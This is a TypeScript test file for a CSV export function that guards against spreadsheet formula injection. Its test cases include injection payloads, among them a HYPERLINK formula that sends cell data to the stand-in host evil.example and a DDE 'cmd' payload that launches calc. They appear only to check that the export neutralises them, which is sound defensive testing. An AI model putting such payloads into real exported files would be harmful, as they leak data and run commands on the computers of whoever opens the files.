import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsvText } from '../import/table';
import { toCsvField, toCsvLine, toFormulaSafeText, toUnguardedText } from '.';

/** What a spreadsheet runs as a formula when a cell begins with it. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('toCsvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['=1+2', "'=1+2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ["+cmd|'/C calc'!A0", `"'+cmd|'/C calc'!A0"`],
    ['-2+3', "'-2+3"],
    ['\tindented', "'\tindented"],
    ['\r=1', `"'\r=1"`],
    ["'=1+2", "''=1+2"],
  ])('writes the text %j so that it is shown, not run: %s', (text, field) => {
    expect(toCsvField(text)).toBe(field);
  });

  it.each([['Main'], ['A+ setup'], ["it's"], ["'quoted'"], ['2025-01-17T14:30:05.000Z'], ['fp:1'], ['']])(
    'writes the text %j with no guard',
    (text) => {
      expect(parseCsvText(toCsvField(text) + ',x', ',')[0]?.cells[0]).toBe(text);
    },
  );

  it.each([['-12.5'], ['-0.00012345'], ['160'], ['1e-8'], ['-3E+21']])('writes the number %s as it is', (number) => {
    expect(toCsvField(number, 'number')).toBe(number);
  });

  it.each([
    ['=1+2', "'=1+2"],
    ['-1-1', "'-1-1"],
    ['-', "'-"],
  ])('guards a number cell that is no plain number, %j, as text', (value, field) => {
    expect(toCsvField(value, 'number')).toBe(field);
  });

  it('quotes a field holding a comma, quote, line break or space, doubling inner quotes', () => {
    expect(toCsvField('Main, "margin"')).toBe('"Main, ""margin"""');
    expect(toCsvField('a\nb')).toBe('"a\nb"');
    expect(toCsvField('a b')).toBe('"a b"');
  });
});

describe('toCsvLine', () => {
  it('writes each value by its kind, text where no kind is given, and ends with CRLF', () => {
    expect(toCsvLine(['=1+2', '-12.5', '-12.5', '@x'], ['text', 'number'])).toBe("'=1+2,-12.5,'-12.5,'@x\r\n");
  });

  it('leaves no text cell a spreadsheet would run, and reads back to its values once unguarded', () => {
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'").chain((start) => fc.string().map((rest) => start + rest)),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 6 }), (values) => {
        const [record] = parseCsvText(toCsvLine(values), ',');
        const cells = record?.cells ?? [];
        expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
        expect(cells.map(toUnguardedText)).toEqual(values);
      }),
    );
  });

  it('writes every plain number in a number cell as it is, negative ones included', () => {
    const number = fc
      .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 20n }), fc.nat({ max: 99_999_999 }))
      .map(([isNegative, whole, fraction]) => `${isNegative ? '-' : ''}${whole}.${fraction}`);
    fc.assert(
      fc.property(fc.array(number, { minLength: 1, maxLength: 5 }), (numbers) => {
        expect(toCsvLine(numbers, ['number', 'number', 'number', 'number', 'number'])).toBe(`${numbers.join(',')}\r\n`);
      }),
    );
  });
});

describe('toUnguardedText', () => {
  it('gives back exactly the text toFormulaSafeText guarded, for any text', () => {
    fc.assert(fc.property(fc.string(), (text) => toUnguardedText(toFormulaSafeText(text)) === text));
  });

  it.each([
    ["'=1+2", '=1+2'],
    ["''=1", "'=1"],
    ["'quoted'", "'quoted'"],
    ["'", "'"],
    ['plain', 'plain'],
  ])('reads %j as %j', (cell, text) => {
    expect(toUnguardedText(cell)).toBe(text);
  });
});
